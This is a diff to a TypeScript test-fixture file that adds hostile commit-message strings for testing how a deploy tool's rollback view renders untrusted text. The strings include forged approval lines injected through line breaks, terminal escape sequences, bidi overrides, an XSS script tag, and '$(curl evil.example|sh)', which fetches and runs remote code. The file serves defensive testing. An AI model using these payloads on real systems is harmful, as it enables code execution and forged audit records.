@@ -65,3 +65,29 @@ export const LIVE_MARKDOWN_INLINE = /(?<!\\)<[A-Za-z/!?]|(?<!\\)\[[^\]]*(?<!\\)\
 
 /** Slack syntax that would mention, broadcast or link: `<!…>`, `<@…>`, `<#…>`, `<http…>`, or a bare `@here` Slack would link. */
 export const LIVE_SLACK = /<[!@#]|<https?:|<mailto:|(?<![\w.])@(channel|here|everyone)\b/i;
+
+/** A line that reads like one of the timeline's, as a commit message can carry it. */
+export const FORGED_EVENT_LINE = '2026-12-03T03:00:00Z bob: approved rollback';
+
+/**
+ * Commit text as the deploy platform reports it in a deployment's meta (message, branch, sha):
+ * anyone who can push writes it, and no input schema of ours stands before it. The table
+ * tests/rollback-candidate.test.ts runs through `describeDeployment` in every field; the pieces
+ * tests/render-forgery.test.ts puts on a real rollback candidate.
+ */
+export const HOSTILE_COMMIT_TEXTS: readonly { name: string; text: string }[] = [
+  { name: 'a forged timeline line after LF', text: `fix\n${FORGED_EVENT_LINE}` },
+  { name: 'a forged timeline line after a lone CR', text: `fix\r${FORGED_EVENT_LINE}` },
+  { name: 'CRLF', text: `fix\r\n${FORGED_EVENT_LINE}` },
+  { name: 'line and paragraph separators', text: `fix\u2028${FORGED_EVENT_LINE}\u2029` },
+  { name: 'ANSI clear screen and cursor home', text: '\u001b[2J\u001b[Hfix' },
+  { name: 'OSC 8 hyperlink', text: '\u001b]8;;http://evil.example\u0007click me\u001b]8;;\u0007' },
+  { name: 'bidi override', text: 'fix \u202ebor yb devorppa\u202c' },
+  { name: 'zero-width characters', text: 'fi\u200bx\u200c\u200d\u2060\ufeff' },
+  { name: 'Markdown emphasis, link, table cell, code, HTML', text: '**urgent** [link](http://evil.example) | cell | `code` <script>alert(1)</script>' },
+  { name: 'a fake approval that closes the quotes', text: 'fix"), approved by bob and carol; refused: none' },
+  { name: 'a backslash before the quote', text: 'fix\\", approved by bob' },
+  { name: '100 kB, then a forged line', text: `${'A'.repeat(100_000)}\n${FORGED_EVENT_LINE}` },
+  { name: 'a first line of 100 kB', text: 'B'.repeat(100_000) },
+  { name: 'not hex, like a shell command', text: '$(curl evil.example|sh)' },
+];
